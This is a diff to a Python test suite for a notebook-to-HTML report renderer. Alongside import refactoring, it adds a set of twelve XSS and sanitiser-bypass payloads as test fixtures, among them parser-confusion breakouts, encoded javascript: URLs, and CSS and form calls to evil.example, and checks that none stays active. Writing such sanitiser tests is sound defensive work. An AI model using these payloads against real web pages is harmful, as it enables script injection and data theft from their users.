@@ -19,8 +19,11 @@ from partnerships.analysis import charts
 
 from partnerships.analysis import present
 
-from partnerships.engine import render
-from partnerships.engine.render import RenderError, render_html, render_pdf
+from partnerships.engine import export
+from partnerships.engine.html import slugify
+from partnerships.engine.page import render_html
+from partnerships.engine.pdf import render_pdf
+from partnerships.errors import RenderError
 
 META = {
     "title": "Mongolia's Defence Partnerships",
@@ -261,7 +264,7 @@ def test_code_parameters_streams_and_reprs_never_shown(report):
 
 def test_plain_image_outputs_are_inlined(report):
     text = report["text"]
-    assert f'<img alt="" src="data:image/png;base64,{PNG}">' in text
+    assert f'<img alt="" src="data:image/png;base64,{PNG}"/>' in text
     assert '<div class="output output-image output-svg">' in text
     assert 'id="02-partner-profile--russia-svg2-r"' in text  # the second SVG of chapter two
 
@@ -302,7 +305,7 @@ def test_error_output_stops_the_render_with_notebook_and_cell(tmp_path):
         "fix the notebook, the report never shows a traceback"
     )
     assert not (tmp_path / "r.html").exists()
-    from partnerships.engine.manifest import UserError
+    from partnerships.errors import UserError
 
     assert isinstance(err.value, UserError)  # the CLI prints it as one message, exit non-zero
 
@@ -358,9 +361,44 @@ def test_event_handlers_removed_however_written(tmp_path):
     render_html(META, [chapter], tmp_path / "r.html")
     text = (tmp_path / "r.html").read_text(encoding="utf-8")
     assert not re.search(r"alert|onerror|onclick|javascript", text, re.I)
-    assert f'<img src="data:image/png;base64,{PNG}">' in text
+    assert f'<img src="data:image/png;base64,{PNG}"/>' in text
     assert '<p class="x">para</p>' in text
     assert '<svg viewBox="0 0 1 1">' in text  # SVG names keep their spelling
+
+
+MARKUP_ATTACKS = {
+    # markup that tries to be read one way by the sanitiser (an HTML5 parser) and another by
+    # Python's parser or a browser (a <style> inside an SVG holds markup, elsewhere text)
+    "svg-style-breakout": f'<svg></p><style><a id="</style><img src=data:image/png;base64,{PNG} onerror=alert(1)>">',
+    "noscript-breakout": f'<noscript><p title="</noscript><img src=data:image/png;base64,{PNG} onerror=alert(2)>"></noscript>',
+    "style-attribute-breakout": '<svg></p><style><a id="</style><p onclick=alert(3) style=color:red>x</p>">',
+    "foreign-object": '<svg><foreignObject><p onclick="alert(4)">fo</p><iframe srcdoc="<script>alert(5)</script>">in</iframe></foreignObject></svg>',
+    "css-outside-svg": '<style>@import url(http://evil.example/x.css);</style><p style="background:url(http://evil.example/y)">s</p>',
+    "svg-css-url": '<svg><style>*{fill:url(http://evil.example/x)}</style><path d="M0 0" style="fill:url(http://evil.example/y)"/></svg>',
+    "forms": '<form action="http://evil.example"><input onfocus=alert(6) autofocus><button formaction="javascript:alert(7)">b</button></form>',
+    "encoded-javascript": '<a href="java&#x09;script:alert(8)">j</a><a href="&#106;avascript:alert(9)">k</a>',
+    "svg-animate-href": '<svg><a href="javascript:alert(10)"><text>t</text></a><animate attributeName="href" to="javascript:alert(11)"/></svg>',
+    "comment": "<!-- <img src=x onerror=alert(12)> -->",
+    "svg-style-text": "<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(13)&gt;</style></svg>",
+    "svg-title-text": "<svg><title>&lt;/title&gt;&lt;img src=x onerror=alert(14)&gt;</title></svg>",
+}
+
+
+@pytest.mark.parametrize("case", sorted(MARKUP_ATTACKS))
+def test_markup_attacks_leave_nothing_active(tmp_path, case):
+    chapter = _write(
+        tmp_path,
+        "11-attack",
+        [
+            new_markdown_cell("# Attack"),
+            new_code_cell("", outputs=[new_output("display_data", data={"text/html": MARKUP_ATTACKS[case]})]),
+        ],
+    )
+    render_html(META, [chapter], tmp_path / "r.html")
+    text = (tmp_path / "r.html").read_text(encoding="utf-8")
+    body = text[text.index('<main class="report-body">') :]
+    assert not re.search(r"<[^>]*\son\w+=|javascript|evil\.example|<iframe|<form|<input|<script|<img src=.x", body, re.I)
+    assert body.count("<style") == 0  # no stylesheet survives outside matplotlib's plain SVG one
 
 
 def test_external_link_becomes_plain_text(tmp_path):
@@ -427,16 +465,16 @@ def test_chapter_without_h1_is_titled_by_its_id(tmp_path):
 
 def test_chapter_title_rule():
     md_first = new_notebook(cells=[new_markdown_cell("# Exercises\n\ntext"), new_markdown_cell("# Later")])
-    assert render.chapter_title(md_first, "x") == "Exercises"
+    assert export.chapter_title(md_first, "x") == "Exercises"
     generated = new_notebook(
         cells=[
             new_code_cell("p = 1", metadata={"tags": ["parameters"]}),
             new_code_cell("", outputs=[new_output("display_data", data={"text/markdown": "# Partner profile: Japan"})]),
         ]
     )
-    assert render.chapter_title(generated, "x") == "Partner profile: Japan"
-    assert render.chapter_title(new_notebook(cells=[new_markdown_cell("no heading")]), "08-id") == "08-id"
-    assert render.slugify("Who trains whom? (1990–2024)") == "who-trains-whom-1990-2024"
+    assert export.chapter_title(generated, "x") == "Partner profile: Japan"
+    assert export.chapter_title(new_notebook(cells=[new_markdown_cell("no heading")]), "08-id") == "08-id"
+    assert slugify("Who trains whom? (1990–2024)") == "who-trains-whom-1990-2024"
 
 
 # ------------------------------------------------------------------------------ PDF
